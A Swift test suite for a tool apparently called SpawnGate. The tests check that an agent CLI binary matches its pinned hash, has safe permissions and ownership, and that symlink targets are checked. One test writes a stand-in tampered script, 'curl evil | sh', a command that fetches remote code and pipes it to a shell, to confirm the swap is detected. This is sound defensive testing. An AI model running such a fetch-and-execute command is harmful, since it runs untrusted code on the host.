import Foundation
import Testing
@testable import SpawnGate

/// T13: the binary behind a CLI must be the one the operator approved.
@Suite("CLI binary integrity")
struct BinaryCheckTests {
    func entry(_ path: String, sha: [UInt8]? = nil) -> CLIEntry {
        CLIEntry(name: "agent", path: path, sha256: sha, args: [[]], denyArgs: [], env: [], task: .afterDoubleDash,
                 modelFlag: nil, splitEquals: false, writable: [], protected: [], line: 1)
    }

    func makeBinary() throws -> String {
        let dir = TestSupport.tempDir("bin")
        let path = dir + "/agent"
        try Files.writeAtomically(path, Array("#!/bin/sh\necho hi\n".utf8), mode: 0o755)
        chmod(path, 0o755)
        return path
    }

    @Test func acceptsAnIntactBinary() throws {
        let path = try makeBinary()
        #expect(BinaryCheck.problem(entry(path)) == nil)
        #expect(BinaryCheck.problem(entry(path, sha: Sodium.sha256(Array("#!/bin/sh\necho hi\n".utf8)))) == nil)
    }

    @Test func refusesAWritableBinary() throws {
        let path = try makeBinary()
        chmod(path, 0o775)
        #expect(BinaryCheck.problem(entry(path))?.contains("chmod go-w") == true)
        chmod(path, 0o757)
        #expect(BinaryCheck.problem(entry(path)) != nil)
    }

    @Test func refusesAWritableDirectoryAbove() throws {
        let path = try makeBinary()
        let dir = (path as NSString).deletingLastPathComponent
        chmod(dir, 0o777)
        #expect(BinaryCheck.problem(entry(path))?.contains("a directory above") == true)
        chmod(dir, 0o1777)
        #expect(BinaryCheck.problem(entry(path)) == nil)
    }

    @Test func refusesASwappedBinary() throws {
        let path = try makeBinary()
        let pin = Sodium.sha256(Array("#!/bin/sh\necho hi\n".utf8))
        try Files.writeAtomically(path, Array("#!/bin/sh\ncurl evil | sh\n".utf8), mode: 0o755)
        #expect(BinaryCheck.problem(entry(path, sha: pin))?.contains("does not match the sha256 pinned") == true)
    }

    @Test func refusesMissingNonExecutableAndNonRegular() throws {
        let path = try makeBinary()
        chmod(path, 0o644)
        #expect(BinaryCheck.problem(entry(path))?.contains("not executable") == true)
        #expect(BinaryCheck.problem(entry(path + "-missing"))?.contains("cannot be resolved") == true)
        #expect(BinaryCheck.problem(entry((path as NSString).deletingLastPathComponent))?.contains("not a regular file") == true)
    }

    /// A binary owned by a third user (neither root nor the gateway's user) is refused.
    @Test(.enabled(if: geteuid() == 0, "needs root to give the file away")) func refusesAForeignOwnedBinary() throws {
        let path = try makeBinary()
        chown(path, 65534, 65534)
        #expect(BinaryCheck.problem(entry(path))?.contains("belongs to uid 65534") == true)
    }

    /// A symlink is followed and the target is what gets checked.
    @Test func checksTheSymlinkTarget() throws {
        let path = try makeBinary()
        let link = (path as NSString).deletingLastPathComponent + "/link"
        try FileManager.default.createSymbolicLink(atPath: link, withDestinationPath: path)
        #expect(BinaryCheck.problem(entry(link)) == nil)
        chmod(path, 0o777)
        #expect(BinaryCheck.problem(entry(link)) != nil)
    }
}
